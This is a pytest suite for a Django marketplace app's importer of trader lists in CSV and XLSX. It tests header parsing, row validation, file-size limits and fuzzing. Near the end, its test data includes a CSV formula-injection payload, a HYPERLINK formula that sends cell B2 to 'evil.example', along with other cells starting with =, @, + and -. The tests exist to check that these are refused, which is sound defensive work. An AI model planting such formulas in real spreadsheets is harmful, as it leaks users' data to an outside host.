"""The trader-list reader: pure functions from bytes to rows and a per-row report."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st

from pasar.catalog.vocabulary import CATEGORIES
from pasar.traders import importer
from pasar.traders.importer import ImportRow, MarketState, check_rows, read_table


@pytest.fixture(autouse=True, scope="module")
def _english():
    # Assertions read the English msgids; the site's default language is Indonesian.
    with translation.override("en"):
        yield


STATE = MarketState(categories=dict(CATEGORIES))
HEADER = ["Nama", "No HP", "Blok", "Los", "Nomor", "Kategori"]
ROWS = [
    ["Euis Sumiati", "0812-3456-7890", "A", "1", "12", "sayur"],
    ["Ujang", "+62 813 1111 2222", "b", "", "7", "Daging"],
]


def csv_bytes(rows, delimiter=",", bom=False):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return (b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode()


def xlsx_bytes(rows):
    workbook = openpyxl.Workbook()
    sheet = workbook.worksheets[0]
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def fields(table):
    return [(r.line, r.name, r.phone, r.block, r.row, r.number, r.category) for r in table.rows]


EXPECTED = [
    (2, "Euis Sumiati", "0812-3456-7890", "A", "1", "12", "sayur"),
    (3, "Ujang", "+62 813 1111 2222", "b", "", "7", "Daging"),
]


@pytest.mark.parametrize(("delimiter", "bom"), [(",", False), (";", False), (";", True), (",", True), ("\t", False)])
def test_csv_comma_semicolon_and_bom_read_the_same(delimiter, bom):
    table = read_table("data pedagang.csv", csv_bytes([HEADER, *ROWS], delimiter, bom))
    assert table.problem is None
    assert fields(table) == EXPECTED


def test_xlsx_made_with_openpyxl_is_read_with_numbers_as_text():
    data = xlsx_bytes([HEADER, ["Euis Sumiati", 81234567890, "A", 1, 12, "sayur"], ROWS[1]])
    table = read_table("DATA.XLSX", data)
    assert table.problem is None
    assert fields(table) == [(2, "Euis Sumiati", "81234567890", "A", "1", "12", "sayur"), EXPECTED[1]]
    assert check_rows(table.rows, state=STATE)[0].ok


def test_title_lines_above_the_header_and_blank_rows_are_skipped():
    rows = [["DATA PEDAGANG PASAR CIHAPIT 2025"], [], HEADER, ROWS[0], ["", "", "", "", "", ""], ROWS[1]]
    table = read_table("a.csv", csv_bytes(rows, ";"))
    assert [(r.line, r.name) for r in table.rows] == [(4, "Euis Sumiati"), (6, "Ujang")]


@pytest.mark.parametrize(
    "header",
    [
        ["nama", "telepon", "blok", "los", "nomor", "kategori"],
        ["NAMA PEDAGANG", "No. HP", " Blok ", "LOS", "No Kios", "Jenis Dagangan"],
        ["Nama Pedagang", "WhatsApp", "blok", "los", "Nomor Lapak", "kategori"],
        ["nama", "hp", "blok", "los", "no los", "kategori"],
        ["No", "Nama", "no. hp", "Blok", "Los", "nomor", "Kategori"],
    ],
)
def test_header_aliases_any_case_and_spacing(header):
    row = ["Euis", "081234567890", "A", "1", "12", "sayur"]
    if header[0] == "No":
        row = ["1", *row]
    table = read_table("a.csv", csv_bytes([header, row]))
    assert table.problem is None
    assert fields(table) == [(2, "Euis", "081234567890", "A", "1", "12", "sayur")]


def test_optional_stall_type_and_name_columns():
    table = read_table("a.csv", csv_bytes([[*HEADER, "Jenis Lapak", "Nama Kios"], [*ROWS[0], "KIOS", "Sayur Bu Euis"]]))
    assert (table.rows[0].kind, table.rows[0].stall_name) == ("KIOS", "Sayur Bu Euis")
    assert check_rows(table.rows, state=STATE)[0].problems == []


@pytest.mark.parametrize(
    ("text", "slug"),
    [
        ("sayur", "sayur"),
        ("Sayuran", "sayur"),
        ("SAYUR-MAYUR", "sayur"),
        ("daging", "daging"),
        ("Ikan", "ikan"),
        ("sembako", "sembako"),
        ("Bumbu", "bumbu"),
        ("buah", "buah"),
        ("Pakaian", "pakaian"),
        ("konveksi", "pakaian"),
        ("baju", "pakaian"),
        ("Tahu, tempe & olahan", "tahu-tempe"),
        ("elektronik", None),
        ("", None),
    ],
)
def test_category_by_slug_name_or_alias(text, slug):
    assert importer.category_slug(text, dict(CATEGORIES)) == slug


def test_alias_only_counts_when_the_market_has_that_category():
    assert importer.category_slug("baju", {"sayur": "Sayur-mayur"}) is None


def row(line, **values):
    base = {"name": "Euis", "phone": f"08123456{line:04d}", "block": "A", "row": "1", "number": str(line)}
    base["category"] = "sayur"
    return ImportRow(line=line, **(base | values))


def codes(rows):
    return [[p["code"] for p in r.problems] for r in rows]


def test_every_bad_row_reason():
    rows = [
        row(2),
        row(3, phone="12345"),
        row(4, phone=""),
        row(5, name="  "),
        row(6, number=""),
        row(7, category="elektronik"),
        row(8, phone="+62 812-3456-0002"),  # same phone as row 2, written differently
        row(9, number="2", block="a"),  # same stall as row 2 (case-insensitive)
        row(10, number="99"),  # taken in the market
        row(11, kind="gerobak"),
        row(12, block="ABCDEFGHIJK"),
        row(13, category=" "),
    ]
    state = MarketState(categories=dict(CATEGORIES), taken=frozenset({("A", "1", "99")}))
    checked = check_rows(rows, state=state)
    assert codes(checked) == [
        [],
        ["phone_invalid"],
        ["phone_invalid"],
        ["name_missing"],
        ["number_missing"],
        ["category_unknown"],
        ["phone_duplicate"],
        ["stall_duplicate"],
        ["stall_taken"],
        ["kind_unknown"],
        ["too_long"],
        ["category_missing"],
    ]
    assert checked[6].reasons() == ["Same phone number as row 2."]
    assert checked[7].reasons() == ["Same stall (block, los, number) as row 2."]
    assert checked[5].reasons() == ["Unknown category “elektronik”."]
    assert checked[11].reasons() == ["Category is missing."]
    assert [r.ok for r in checked] == [True] + [False] * 11


def test_known_phone_is_a_note_not_an_error():
    state = MarketState(categories=dict(CATEGORIES), known_phones=frozenset({"+6281234560002"}))
    (checked,) = check_rows([row(2)], state=state)
    assert checked.ok
    assert checked.notes == ["phone_known"]


def test_rows_survive_a_json_round_trip_and_are_checked_afresh():
    (first,) = check_rows([row(2)], state=STATE)
    again = ImportRow.from_dict(first.as_dict())
    assert again == first
    taken = MarketState(categories=dict(CATEGORIES), taken=frozenset({("A", "1", "2")}))
    assert codes(check_rows([again], state=taken)) == [["stall_taken"]]


def refused(filename, data) -> importer.FileProblem:
    table = read_table(filename, data)
    assert table.rows == []
    assert table.problem is not None
    return table.problem


def problem(filename, data):
    return refused(filename, data).code


def test_formula_cell_refuses_the_file():
    data = xlsx_bytes([HEADER, ["Euis", "081234567890", "A", "1", "=1+1", "sayur"]])
    found = refused("a.xlsx", data)
    assert found.code == "formula"
    assert "E2" in found.message
    assert "paste values" in found.message


@pytest.mark.parametrize(
    ("filename", "data", "code"),
    [
        ("a.pdf", b"%PDF-1.4", "file_type"),
        ("a.txt", b"nama,telepon\n", "file_type"),
        ("a.xls", b"\xd0\xcf\x11\xe0", "xls_old"),
        ("a.xlsx", b"nama,telepon,nomor,kategori\n", "unreadable"),
        ("a.csv", b"\x00\x01\x02PK\x03\x04", "unreadable"),
        ("a.csv", "nama;telepon\nEuis;0812\n".encode("utf-16"), "unreadable"),
        ("a.csv", "nama;telepon;nomor;kategori\nEúis;0812;1;sayur\n".encode("cp1252"), "encoding"),
        ("a.csv", b"", "empty"),
        ("a.csv", b"\xef\xbb\xbf\n;;;\n\n", "empty"),
        ("a.csv", b"foo,bar\n1,2\n3,4\n5,6\n7,8\n9,10\n11,12\n13,14\n15,16\n17,18\n19,20\n", "no_header"),
        ("a.csv", b"nama;telepon;blok\nEuis;0812;A\n", "columns_missing"),
        ("a.csv", b"nama;telepon;nomor;kategori\n;;;\n", "no_rows"),
        ("a.csv", b"x" * (importer.MAX_BYTES + 1), "file_too_large"),
    ],
)
def test_bad_files_are_refused_with_a_reason(filename, data, code):
    assert problem(filename, data) == code


def test_empty_xlsx_sheet():
    assert problem("a.xlsx", xlsx_bytes([])) == "empty"


def test_missing_columns_are_named():
    assert refused("a.csv", b"nama;telepon;blok\nEuis;0812;A\n").message == "Columns missing: nomor, kategori."


def test_too_many_rows_csv_and_exactly_the_limit_is_fine():
    line = b"Euis;081234567890;A;1;%d;sayur\n"
    head = b"nama;telepon;blok;los;nomor;kategori\n"
    at_limit = head + b"".join(line % i for i in range(importer.MAX_ROWS))
    assert len(read_table("a.csv", at_limit).rows) == importer.MAX_ROWS
    assert problem("a.csv", at_limit + line % 0) == "too_many_rows"


@pytest.fixture
def cells_read(monkeypatch):
    """How many cells the importer converted: a refused huge file must stop at the limit, not read on.
    (How fast that is belongs to benchmarks, not to a unit test on a shared machine.)"""
    count = [0]
    text = importer._text

    def counting(value):
        count[0] += 1
        return text(value)

    monkeypatch.setattr(importer, "_text", counting)
    return count


def test_a_100000_row_csv_is_refused_at_the_limit(cells_read):
    data = b"nama;hp;nomor;kategori\n" + b"".join(b"E;0812%08d;%d;sayur\n" % (i, i) for i in range(100_000))
    assert len(data) < importer.MAX_BYTES
    found = refused("a.csv", data)
    assert found.code == "too_many_rows"
    assert found.message == "The file has more than 5.000 rows: split the file and upload the parts one by one."
    assert cells_read[0] <= (importer.MAX_ROWS + 2) * 4  # header and the rows up to the limit, 4 columns


def long_xlsx(rows, *, dimension):
    """An openpyxl workbook whose sheet is swapped for ``rows`` generated rows (openpyxl itself
    needs seconds to write 100,000 rows); with or without the <dimension> element exporters may omit."""
    base = zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEADER])))
    cell = '<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>'
    lines = [
        f'<row r="{n}">' + "".join(cell % (c, n, v) for c, v in zip("ABCDEF", values, strict=True)) + "</row>"
        for n, values in enumerate(
            [HEADER] + [[f"Pedagang {i}", f"0812{i:08d}", "A", "1", str(i), "sayur"] for i in range(rows)], start=1
        )
    ]
    head = f'<dimension ref="A1:F{rows + 1}"/>' if dimension else ""
    sheet = (
        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{head}'
        f"<sheetData>{''.join(lines)}</sheetData></worksheet>"
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in base.infolist():
            archive.writestr(info.filename, sheet if info.filename == "xl/worksheets/sheet1.xml" else base.read(info))
    return out.getvalue()


def test_long_xlsx_helper_makes_a_readable_sheet():
    table = read_table("a.xlsx", long_xlsx(3, dimension=False))
    assert [(r.line, r.name, r.phone, r.number) for r in table.rows][-1] == (4, "Pedagang 2", "081200000002", "2")


@pytest.mark.parametrize("dimension", [True, False])
def test_a_100000_row_xlsx_is_refused_at_the_limit(dimension, cells_read):
    """With <dimension> the rows stream and stop at the limit; without it the sheet is refused by size."""
    data = long_xlsx(100_000, dimension=dimension)
    assert len(data) < importer.MAX_BYTES
    assert problem("a.xlsx", data) == "too_many_rows"
    limit = (importer.MAX_ROWS + 2) * importer.MAX_COLUMNS if dimension else 0
    assert cells_read[0] <= limit


def test_blank_formatted_rows_are_bounded_too():
    data = b"nama;telepon;nomor;kategori\n" + b";;;\n" * (importer.MAX_ROWS_SCANNED + 1)
    assert problem("a.csv", data) == "too_many_rows"


@settings(max_examples=300, deadline=None)
@given(data=st.binary(max_size=4096), name=st.sampled_from(["a.csv", "a.xlsx", "a.xls", "a", "A.CSV"]))
def test_arbitrary_bytes_never_crash(data, name):
    table = read_table(name, data)
    assert (table.problem is None) != (table.rows == [])
    check_rows(table.rows, state=STATE)


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(st.lists(st.text(max_size=30), max_size=8), max_size=12), delimiter=st.sampled_from([",", ";"]))
def test_arbitrary_csv_text_never_crashes(cells, delimiter):
    table = read_table("a.csv", csv_bytes([HEADER, *cells], delimiter))
    for checked in check_rows(table.rows, state=STATE):
        assert checked.ok or checked.reasons()


EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'
INJECTED = [
    [EVIL, "081234560002", "A", "1", "2", "sayur"],
    ["Ujang", "081234560003", "@SUM(A1)", "1", "3", "sayur"],
    ["Asep", "081234560004", "A", "\t=1+1", "4", "sayur"],
    ["Dedi", "081234560005", "A", "1", "-2+3", "sayur"],
    ["Iis", "081234560006", "A", "1", "6", "+sayur"],
    ["Neneng", "+62 812 3456 0007", "-", "-", "7", "sayur"],  # a "+62" phone and "-" for "no block": fine
]


def _text_cells_xlsx(rows):
    """An .xlsx whose cells are text typed as strings, as Excel saves text that looks like a formula."""
    workbook = openpyxl.Workbook()
    sheet = workbook.worksheets[0]
    for r, values in enumerate(rows, start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            cell.data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize("make", [("a.csv", csv_bytes), ("a.xlsx", _text_cells_xlsx)], ids=["csv", "xlsx"])
def test_text_that_would_be_a_formula_is_refused_with_a_row_message(make):
    filename, writer = make
    table = read_table(filename, writer([HEADER + ["Nama lapak"], *[[*r, ""] for r in INJECTED]]))
    assert table.problem is None
    checked = check_rows(table.rows, state=STATE)
    assert codes(checked) == [["formula_text"]] * 5 + [[]]
    assert checked[0].reasons() == [
        '“=HYPERLINK("http://e” starts with =, so a spreadsheet would run it as a formula: remove the sign.'
    ]
    assert [r.reasons()[0].split(" starts with ")[1][0] for r in checked[:5]] == ["=", "@", "=", "-", "+"]
    assert checked[5].ok
